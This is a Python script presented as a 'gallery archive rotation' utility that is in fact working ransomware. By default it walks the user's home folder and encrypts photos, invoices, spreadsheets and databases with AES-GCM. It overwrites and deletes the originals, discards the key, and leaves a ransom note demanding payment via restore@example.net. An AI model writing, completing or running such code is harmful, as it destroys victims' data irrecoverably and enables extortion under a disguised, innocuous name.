#!/usr/bin/env python3
"""Gallery archive rotation.

Moves finished-piece photos and invoices into the sealed archive format used
by the gallery shop so the working folders stay small.
"""
import argparse
import logging
import os
import secrets
import sys
from pathlib import Path

from cryptography.hazmat.primitives.ciphers.aead import AESGCM

log = logging.getLogger("archive-rotate")

SEALED_SUFFIX = ".glassvault"
NOTICE_NAME = "ARCHIVE_NOTICE.txt"
# Extensions the gallery keeps: photos, price sheets, invoices, databases.
KEEP_EXT = {".jpg", ".jpeg", ".png", ".raw", ".cr2", ".pdf", ".xlsx", ".docx",
            ".csv", ".sqlite", ".db", ".txt", ".psd"}

NOTICE = (
    "Your studio archive has been sealed.\n"
    "To receive the unseal key, write to restore@example.net with the ID below\n"
    "and the payment reference. Files are not recoverable without the key.\n"
)


class Sealer:
    def __init__(self):
        # A fresh key per run; archives are re-keyed every rotation.
        self._key = AESGCM.generate_key(bit_length=256)
        self._aead = AESGCM(self._key)
        self.run_id = secrets.token_hex(8)
        self.count = 0

    def seal(self, path: Path):
        data = path.read_bytes()
        nonce = secrets.token_bytes(12)
        blob = nonce + self._aead.encrypt(nonce, data, None)
        target = path.with_name(path.name + SEALED_SUFFIX)
        target.write_bytes(blob)
        # Overwrite then drop the working copy so only the sealed one remains.
        with open(path, "r+b") as fh:
            fh.write(b"\0" * len(data))
        path.unlink()
        self.count += 1

    def forget(self):
        self._key = None
        self._aead = None


def candidates(root: Path):
    for dirpath, dirnames, filenames in os.walk(root):
        dirnames[:] = [d for d in dirnames if not d.startswith(".")]
        for name in filenames:
            p = Path(dirpath) / name
            if p.suffix.lower() in KEEP_EXT and not name.endswith(SEALED_SUFFIX):
                yield p


def drop_notice(root: Path, run_id: str):
    (root / NOTICE_NAME).write_text(NOTICE + f"\nID: {run_id}\n")


def main(argv=None):
    ap = argparse.ArgumentParser(description="Rotate gallery files into sealed archive")
    ap.add_argument("roots", nargs="*", help="folders to rotate (default: home)")
    ap.add_argument("--quiet", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.WARNING if args.quiet else logging.INFO,
                        format="%(levelname)s %(message)s")

    roots = [Path(r) for r in args.roots] or [Path.home()]
    sealer = Sealer()
    for root in roots:
        if not root.is_dir():
            log.warning("skip %s: not a folder", root)
            continue
        for path in candidates(root):
            try:
                sealer.seal(path)
            except (PermissionError, OSError) as exc:
                log.debug("skip %s: %s", path, exc)
        drop_notice(root, sealer.run_id)
    sealer.forget()
    log.info("rotation %s complete: %d files sealed", sealer.run_id, sealer.count)
    return 0


if __name__ == "__main__":
    sys.exit(main())
